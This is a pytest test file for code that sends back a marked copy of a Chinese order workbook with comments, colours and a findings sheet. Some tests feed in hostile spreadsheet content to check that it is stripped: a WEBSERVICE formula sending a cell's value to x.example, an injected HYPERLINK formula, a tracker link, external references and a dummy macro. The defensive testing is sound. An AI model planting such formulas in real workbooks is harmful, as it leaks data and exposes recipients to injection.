"""The sender's own workbook comes back as he wrote it, with marks where something is wrong."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from email.message import EmailMessage
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from mailflow.domain.document import Order
from mailflow.domain.naming import KnownNames, normalised
from mailflow.outbox.workbooks.marked_copy import Mark, mark_workbook, marked_copy
from mailflow.outbox.workbooks.marks import ASKED, EDGE, WRONG
from mailflow.parsers.reader import read_file
from mailflow.parsers.sandbox import Sandbox
from tests.outbox.workbooks.lists import EN, ZH

FINDINGS = ZH["findings"]
NAMES = ("晨露金装婴幼儿配方奶粉1段900g", "晨露金装婴幼儿配方奶粉2段900g")
KNOWN = KnownNames(product_names=frozenset(normalised(n) for n in NAMES))
ROWS: tuple[tuple[Any, ...], ...] = (
    ("订货单",),
    ("经销商", "南阳市童之家贸易有限公司"),
    ("收货人", "李伟", "联系电话", "13000000000"),
    ("收货地址", "河南省南阳市建设路1号"),
    (),
    ("序号", "品名", "规格", "箱数", "听数", "单价", "金额", "备注"),
    (1, NAMES[0], "900g*6听/箱", 2, 13, 168, 2016, "急"),
    (2, NAMES[1], "900g*6听/箱", 5, 30, 158, 4740, None),
    ("合计", None, None, 7, 43, None, 6756, None),
)


def a_book(change: Callable[[Worksheet], None] | None = None) -> bytes:
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "订货单"
    for row in ROWS:
        sheet.append(row)
    if change:
        change(sheet)
    return saved(book)


def saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


LOOSE = Mark(
    sheet="订货单",
    row=6,
    column=4,
    title="散听",
    text="订了 13 听，不是整箱；每箱 6 听，请改为整箱。",
    proposal="12 或 18",
    is_error=True,
)
UNUSUAL = replace(LOOSE, row=7, title="数量异常", text="比平时多。", proposal="", is_error=False)


def marked(data: bytes, *marks: Mark) -> Workbook:
    return load_workbook(io.BytesIO(mark_workbook(data, marks, ZH)))


def sheet_of(book: Workbook, name: str = "订货单") -> Worksheet:
    sheet = book[name]
    assert isinstance(sheet, Worksheet)
    return sheet


def comment_of(cell: Any) -> str:
    return cell.comment.text if cell.comment else ""


def values(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return [row[:8] for row in sheet.iter_rows(values_only=True, max_row=len(ROWS))]


def test_without_marks_the_sheet_is_as_it_was() -> None:
    data = a_book()
    sheet = sheet_of(marked(data))

    assert values(sheet) == values(sheet_of(load_workbook(io.BytesIO(data))))
    assert not [c for row in sheet.iter_rows() for c in row if c.comment or c.fill.fill_type]


def test_only_the_wrong_cells_are_coloured() -> None:
    sheet = sheet_of(marked(a_book(), LOOSE, UNUSUAL))
    coloured = {
        c.coordinate: c.fill.start_color.rgb
        for row in sheet.iter_rows()
        for c in row
        if c.fill.fill_type
    }

    assert coloured == {"E7": WRONG, "E8": ASKED}
    assert sheet["E7"].border.left.color is not None
    assert sheet["E7"].border.left.color.rgb == EDGE[WRONG]


def test_the_comment_says_what_is_wrong_and_what_is_proposed() -> None:
    comment = sheet_of(marked(a_book(), LOOSE))["E7"].comment

    assert comment is not None
    assert comment.author == "mailflow"
    assert comment.text == f"散听\n{LOOSE.text}\n建议：12 或 18"


def test_a_proposal_is_not_said_twice_in_a_comment() -> None:
    said = replace(LOOSE, text="请改为 12 或 18。")

    assert comment_of(sheet_of(marked(a_book(), said))["E7"]).count("12 或 18") == 1


def test_what_the_sender_wrote_in_a_comment_stays() -> None:
    def note(sheet: Worksheet) -> None:
        sheet["E7"].comment = Comment("老客户", "王芳")

    assert comment_of(sheet_of(marked(a_book(note), LOOSE))["E7"]).startswith("老客户\n")


def test_two_findings_of_a_cell_share_it_and_the_graver_one_colours_it() -> None:
    sheet = sheet_of(marked(a_book(), replace(UNUSUAL, row=6), LOOSE))

    assert sheet["E7"].fill.start_color.rgb == WRONG
    assert "数量异常" in comment_of(sheet["E7"])
    assert "散听" in comment_of(sheet["E7"])


def test_proposals_stand_right_of_everything_that_was_written() -> None:
    sheet = sheet_of(marked(a_book(), LOOSE, UNUSUAL))

    assert [sheet.cell(r, 9).value for r in (6, 7, 8)] == [None, "← 建议 12 或 18", None]
    assert values(sheet)[6][7] == "急"


def test_a_sheet_without_room_has_its_proposals_in_comments_alone() -> None:
    def wide(sheet: Worksheet) -> None:
        sheet.cell(7, 100).value = "x"

    sheet = sheet_of(marked(a_book(wide), LOOSE))

    assert sheet.max_column == 100
    assert "12 或 18" in comment_of(sheet["E7"])


def test_a_mark_inside_a_merged_area_stands_on_its_first_cell() -> None:
    data = a_book(lambda s: s.merge_cells("A1:H1"))
    raw = mark_workbook(data, [replace(LOOSE, row=0, column=5)], ZH)
    sheet = sheet_of(load_workbook(io.BytesIO(raw)))
    xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet2.xml").decode()
    looks = [re.search(rf'r="{at}" s="(\d+)"', xml) for at in ("A1", "G1", "H1")]

    assert comment_of(sheet["A1"]).startswith("散听")
    assert sheet["A1"].fill.start_color.rgb == WRONG
    assert "A1:H1" in [str(r) for r in sheet.merged_cells.ranges]
    assert len({m[1] for m in looks if m}) == 3, "the edge goes around the whole area"


def test_formats_widths_and_merges_are_kept() -> None:
    def dress(sheet: Worksheet) -> None:
        sheet["B7"].font = Font(name="楷体", bold=True, size=14)
        sheet["A6"].fill = PatternFill("solid", start_color="FF00FF00")
        sheet["F7"].number_format = '"¥"#,##0.00'
        sheet.column_dimensions["B"].width = 33
        sheet.row_dimensions[7].height = 40
        sheet.merge_cells("A1:H1")
        sheet.freeze_panes = "A7"

    sheet = sheet_of(marked(a_book(dress), LOOSE))

    assert (sheet["B7"].font.name, sheet["B7"].font.b, sheet["B7"].font.sz) == ("楷体", True, 14)
    assert sheet["A6"].fill.start_color.rgb == "FF00FF00"
    assert sheet["F7"].number_format == '"¥"#,##0.00'
    assert sheet.column_dimensions["B"].width == 33
    assert sheet.row_dimensions[7].height == 40
    assert sheet.freeze_panes == "A7"


def test_the_first_sheet_lists_every_finding_with_a_link_to_its_cell() -> None:
    book = marked(a_book(), LOOSE, UNUSUAL)
    sheet = sheet_of(book, FINDINGS)

    assert book.sheetnames == [FINDINGS, "订货单"]
    assert book.active is sheet
    rows = [row[:5] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert rows == [
        ("1", "订货单!E7", "13", LOOSE.text, "12 或 18"),
        ("2", "订货单!E8", "30", UNUSUAL.text, None),
    ]
    link = sheet["B5"].hyperlink
    assert link is not None
    assert link.location == "'订货单'!E7"
    assert link.target is None


def test_only_the_findings_are_selected_so_that_no_two_sheets_are_typed_into() -> None:
    book = marked(a_book(), LOOSE)

    assert [bool(s.sheet_view.tabSelected) for s in book.worksheets] == [True, False]


@pytest.mark.parametrize(
    "mark",
    [replace(LOOSE, row=-1, column=-1, sheet=""), replace(LOOSE, sheet="没有这张表")],
)
def test_a_finding_without_a_place_is_told_in_the_list_alone(mark: Mark) -> None:
    book = marked(a_book(), mark)

    assert sheet_of(book, FINDINGS)["D5"].value == LOOSE.text
    assert sheet_of(book, FINDINGS)["B5"].hyperlink is None
    assert not [c for row in sheet_of(book).iter_rows() for c in row if c.comment]


def test_what_is_hidden_and_wrong_is_shown_and_the_rest_stays_hidden() -> None:
    def hide(sheet: Worksheet) -> None:
        sheet.row_dimensions[7].hidden = True
        sheet.row_dimensions[8].hidden = True
        sheet.column_dimensions.group("D", "F", hidden=True)

    sheet = sheet_of(marked(a_book(hide), LOOSE))
    hidden = {letter for letter, d in sheet.column_dimensions.items() if d.hidden}

    assert not sheet.row_dimensions[7].hidden
    assert sheet.row_dimensions[8].hidden
    assert hidden == {"D", "F"}


def test_columns_kept_as_one_range_never_overlap_after_marking() -> None:
    def group(sheet: Worksheet) -> None:
        sheet.column_dimensions.group("B", "XFD", hidden=False)
        sheet.column_dimensions["B"].width = 11

    sheet = sheet_of(marked(a_book(group), LOOSE))
    ranges = sorted((d.min or 0, d.max or 0) for d in sheet.column_dimensions.values())

    assert all(one[1] < two[0] for one, two in pairwise(ranges))
    assert (9, 9) in ranges


def test_a_marked_hidden_sheet_is_shown_and_an_unmarked_one_stays_hidden() -> None:
    book = load_workbook(io.BytesIO(a_book()))
    book.create_sheet("封面")
    book.create_sheet("存档").sheet_state = "hidden"
    book["订货单"].sheet_state = "hidden"
    book.active = 1

    again = marked(saved(book), LOOSE)

    assert again["订货单"].sheet_state == "visible"
    assert again["存档"].sheet_state == "hidden"


def with_formulas(cells: dict[str, bytes], data: bytes | None = None) -> bytes:
    """Formulas with the results a program stored beside them."""
    data = data or a_book()
    for at, inner in cells.items():
        data = with_cell(data, at, b'<c r="%s">%s</c>' % (at.encode(), inner))
    return data


ARITHMETIC = {
    "G7": b"<f>E7*F7</f><v>2016.5</v>",
    "G9": b"<f>SUM(G7:G8)</f><v>6756</v>",
}


def test_arithmetic_stays_with_the_value_that_was_shown() -> None:
    raw = mark_workbook(with_formulas(ARITHMETIC), [LOOSE], ZH)

    formulas, values = (
        sheet_of(load_workbook(io.BytesIO(raw), data_only=d)) for d in (False, True)
    )
    assert [formulas[at].value for at in ("G7", "G9")] == ["=E7*F7", "=SUM(G7:G8)"]
    assert [values[at].value for at in ("G7", "G9")] == [2016.5, 6756]
    book = load_workbook(io.BytesIO(raw))
    assert (book.calculation.calcMode, book.calculation.fullCalcOnLoad) == ("auto", True)


def test_a_formula_that_is_marked_keeps_its_value_too() -> None:
    wrong = replace(LOOSE, column=6, found="")
    raw = mark_workbook(with_formulas(ARITHMETIC), [wrong], ZH)

    book = load_workbook(io.BytesIO(raw), data_only=True)
    assert sheet_of(book)["G7"].value == 2016.5
    assert [c.value for c in book[FINDINGS][5]][2] == "2016.5"


@pytest.mark.parametrize(
    "inner",
    [
        b'<f>WEBSERVICE("http://x.example/"&amp;B2)</f><v>2016</v>',
        b"<f>[1]Prices!A1*E7</f><v>2016</v>",
        b"<f>IF(E7&gt;0,E7*F7,0)</f><v>2016</v>",
        b"<f>Nowhere!A1</f><v>2016</v>",
        b'<f t="array" ref="G7">E7*F7</f><v>2016</v>',
    ],
)
def test_any_other_formula_becomes_its_value_and_that_is_said(inner: bytes) -> None:
    raw = mark_workbook(with_formulas({"G7": inner}), [LOOSE], ZH)

    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet2.xml")
    assert b"<f" not in sheet
    book = load_workbook(io.BytesIO(raw))
    assert sheet_of(book)["G7"].value == 2016
    assert book[FINDINGS]["A3"].value == ZH["formulas_lost"]


def test_where_no_formula_is_lost_nothing_is_said_of_formulas() -> None:
    for data in (a_book(), with_formulas(ARITHMETIC)):
        assert not marked(data, LOOSE)[FINDINGS]["A3"].value


def test_arithmetic_that_came_to_no_number_becomes_what_was_shown() -> None:
    wrong = b'<c r="G7" t="e"><f>E7/0</f><v>#DIV/0!</v></c>'
    sheet = sheet_of(marked(with_cell(a_book(), "G7", wrong), LOOSE))

    assert sheet["G7"].value == "#DIV/0!"


def test_formulas_written_once_for_many_cells_stay_in_each_of_them() -> None:
    shared = {
        "G7": b'<f t="shared" ref="G7:G8" si="0">E7*F7</f><v>2184</v>',
        "G8": b'<f t="shared" si="0"/><v>4740</v>',
    }
    sheet = sheet_of(marked(with_formulas(shared), LOOSE))

    assert [sheet[at].value for at in ("G7", "G8")] == ["=E7*F7", "=E8*F8"]


def test_arithmetic_over_another_sheet_of_the_workbook_stays() -> None:
    def more(sheet: Worksheet) -> None:
        assert sheet.parent is not None
        sheet.parent.create_sheet("价目 表")["A1"] = 168

    data = with_formulas({"G7": "<f>'价目 表'!$A$1*E7</f><v>2184</v>".encode()}, a_book(more))

    assert sheet_of(marked(data, LOOSE))["G7"].value == "='价目 表'!$A$1*E7"


def test_a_formula_without_a_value_stays_or_leaves_nothing() -> None:
    def formulas(sheet: Worksheet) -> None:
        sheet["G7"] = "=E7*F7"
        sheet["G8"] = '=WEBSERVICE("http://x.example/"&B2)'

    sheet = sheet_of(marked(a_book(formulas), LOOSE))

    assert sheet["G7"].value == "=E7*F7"
    assert sheet["G8"].value is None


def test_proposals_do_not_stand_where_a_formula_without_a_value_stands() -> None:
    def formulas(sheet: Worksheet) -> None:
        sheet["J7"] = "=E7*F7"

    sheet = sheet_of(marked(a_book(formulas), LOOSE))

    assert sheet["J7"].value == "=E7*F7"
    assert str(sheet["K7"].value).startswith("←")


def test_a_workbook_with_formulas_sent_back_unchanged_is_read_as_the_original_was() -> None:
    data = with_formulas(ARITHMETIC)

    after = read_file("a.xlsx", mark_workbook(data, [LOOSE], ZH), KNOWN)

    assert after.documents == read_file("a.xlsx", data, KNOWN).documents


def with_cell(data: bytes, at: str, xml: bytes) -> bytes:
    """The workbook with one cell written by hand, as programs other than ours write it."""
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(data))
    with zipfile.ZipFile(out, "w") as copy:
        for name in source.namelist():
            part = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                cell = rb'<c r="' + at.encode() + rb'"[^>]*>.*?</c>'
                part, count = re.subn(cell, xml, part)
                assert count == 1
            copy.writestr(name, part)
    return out.getvalue()


@pytest.mark.fault("O04")
def test_a_text_that_looks_like_a_formula_stays_a_text() -> None:
    text = b'<c r="H7" t="inlineStr"><is><t>=1+1</t></is></c>'
    said = replace(LOOSE, text='=HYPERLINK("http://x.example")', proposal="=1+1", found="+1")

    raw = mark_workbook(with_cell(a_book(), "H7", text), [said], ZH)

    parts = zipfile.ZipFile(io.BytesIO(raw))
    sheets = [n for n in parts.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2
    assert not [n for n in sheets if b"<f" in parts.read(n)]
    assert sheet_of(load_workbook(io.BytesIO(raw)))["H7"].value == "=1+1"


@pytest.mark.fault("X17")
def test_nothing_that_reaches_out_of_the_workbook_is_written_again() -> None:
    def reach(sheet: Worksheet) -> None:
        sheet["H7"].hyperlink = "http://tracker.example/x"
        lists = DataValidation(type="list", formula1="[1]Prices!$A$1:$A$9")
        lists.add("C7")
        sheet.add_data_validation(lists)
        book = sheet.parent
        assert book is not None
        book.defined_names["outside"] = DefinedName("outside", attr_text="[1]Prices!$A$1")

    raw = mark_workbook(a_book(reach), [LOOSE], ZH)
    parts = zipfile.ZipFile(io.BytesIO(raw))
    everything = b"".join(parts.read(n) for n in parts.namelist())

    assert b"tracker.example" not in everything
    assert b"[1]Prices" not in everything


@pytest.mark.fault("X17")
def test_a_macro_is_not_passed_on() -> None:
    out = io.BytesIO(a_book())
    with zipfile.ZipFile(out, "a") as parts:
        parts.writestr("xl/vbaProject.bin", b"macro")

    names = zipfile.ZipFile(io.BytesIO(mark_workbook(out.getvalue(), [LOOSE], ZH))).namelist()

    assert not [n for n in names if "vba" in n or "externalLink" in n]


def test_another_format_becomes_a_workbook_with_the_same_addresses() -> None:
    csv = "订货单\n\n序号,品名,听数\n1,=SUM(A1),13\n".encode("gb18030")

    book = marked(csv, replace(LOOSE, sheet="", row=3, column=2))
    sheet = book.worksheets[1]

    assert sheet["B4"].value == "=SUM(A1)"
    assert sheet["B4"].data_type == "s"
    assert sheet["C4"].fill.start_color.rgb == WRONG
    assert comment_of(sheet["C4"]).startswith("散听")


@pytest.mark.fault("X16")
def test_odd_styles_that_openpyxl_refuses_leave_values_and_marks() -> None:
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(a_book()))
    with zipfile.ZipFile(out, "w") as copy:
        for name in source.namelist():
            part = source.read(name)
            copy.writestr(name, b"<styleSheet/>!" if name == "xl/styles.xml" else part)

    sheet = sheet_of(marked(out.getvalue(), LOOSE))

    assert sheet["B7"].value == NAMES[0]
    assert sheet["E7"].value == 13
    assert comment_of(sheet["E7"]).startswith("散听")


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 torn", b"%PDF-1.7", b"\xd0\xcf\x11\xe0"])
def test_where_nothing_can_be_opened_the_findings_are_still_told(data: bytes) -> None:
    book = marked(data, LOOSE)

    assert book.sheetnames == [FINDINGS]
    assert sheet_of(book, FINDINGS)["D5"].value == LOOSE.text


def test_findings_find_another_name_when_theirs_is_taken() -> None:
    book = load_workbook(io.BytesIO(a_book()))
    book.create_sheet(FINDINGS)

    assert marked(saved(book), LOOSE).sheetnames == [f"{FINDINGS}·", "订货单", FINDINGS]


def test_an_english_sender_reads_english() -> None:
    book = load_workbook(io.BytesIO(mark_workbook(a_book(), [LOOSE], EN)))

    assert book.sheetnames[0] == "Findings"
    assert sheet_of(book)["I7"].value == "← Proposal 12 或 18"


def test_a_marked_copy_sent_back_unchanged_is_read_as_the_original_was() -> None:
    at = [(1, 1), (2, 1), (3, 1), *((r, c) for r in (6, 7, 8) for c in range(8))]
    marks = [replace(LOOSE, row=r, column=c, proposal="地址：别处，箱数：9") for r, c in at]
    data = a_book()

    before = read_file("a.xlsx", data, KNOWN)
    after = read_file("a.xlsx", mark_workbook(data, marks, ZH), KNOWN)

    assert len(before.documents) == 1
    assert isinstance(before.documents[0], Order)
    assert after.documents == before.documents


def test_it_works_where_nothing_may_be_written_to_a_disk() -> None:
    mail = EmailMessage()
    mail["From"] = "rm@maker.example"
    mail.set_content("x")
    mail.add_attachment(
        a_book(), maintype="application", subtype="octet-stream", filename="订单.xlsx"
    )
    sandbox = Sandbox()
    try:
        data = sandbox.call(
            marked_copy, mail.as_bytes(), "订单.xlsx", (LOOSE,), dict(ZH), returns=bytes
        )
    finally:
        sandbox.close()

    assert comment_of(sheet_of(load_workbook(io.BytesIO(data)))["E7"]).startswith("散听")


@pytest.mark.fault("O06")
@settings(max_examples=60, deadline=None)
@given(title=st.text(max_size=30), text=st.text(max_size=200), proposal=st.text(max_size=50))
def test_any_words_can_be_shown(title: str, text: str, proposal: str) -> None:
    said = replace(LOOSE, title=title, text=text, proposal=proposal, found=text)

    book = marked(a_book(), said)

    assert comment_of(sheet_of(book)["E7"]) is not None
    assert book.sheetnames[0] == FINDINGS
